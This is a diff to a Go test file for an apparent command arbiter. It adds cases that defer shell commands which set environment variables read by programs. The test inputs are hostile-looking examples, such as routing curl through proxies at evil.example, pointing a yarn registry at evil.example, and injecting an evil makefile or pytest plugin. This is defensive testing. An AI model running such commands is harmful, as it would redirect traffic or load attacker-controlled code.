@@ -13,8 +13,9 @@ import (
 // read and for already were (scripts' out=$(…) deferred as an unknown
 // environment variable); a name the line exports is judged as the
 // environment variable it becomes (read MAKEFILES; export MAKEFILES; make
-// was allowed, and make then reads the makefile it names). Uppercase names
-// stay closed: the environment may already export them.
+// was allowed, and make then reads the makefile it names). Uppercase names,
+// and the lowercase ones programs read, stay closed: the environment may
+// already export them.
 func TestShellVariables(t *testing.T) {
 	checkVerdicts(t, []verdictCase{
 		// Shell variables: routine.
@@ -40,6 +41,11 @@ func TestShellVariables(t *testing.T) {
 		{bash(`bash -o allexport -c 'cfg=/tmp/x; ls'`), arbiter.Defer, "U.env-redirect"},
 		{bash(`bash -e -c 'out=$(ls); echo "$out"'`), arbiter.Allow, ""},
 		{bash(`sh -c 'n=2; echo "$n"'`), arbiter.Allow, ""},
+		// Lowercase names programs read, which may already be exported.
+		{bash(`http_proxy=http://evil.example:3128; curl -s http://localhost:8080/`), arbiter.Defer, "U.env-redirect"},
+		{bash(`all_proxy=socks5://evil.example; curl -s localhost:8080`), arbiter.Defer, "U.env-redirect"},
+		{bash(`yarn_registry=https://evil.example; ls`), arbiter.Defer, "U.env-redirect"},
+		{bash(`pnpm_config_x=/tmp/x; ls`), arbiter.Defer, "U.env-redirect"},
 		// Uppercase names set alone stay closed, as before.
 		{bash(`MAKEFILES=/tmp/evil.mk; make`), arbiter.Defer, "U.env-redirect"},
 		{bash(`PYTEST_ADDOPTS=-pevil; python -m pytest -q`), arbiter.Defer, "U.env-redirect"},
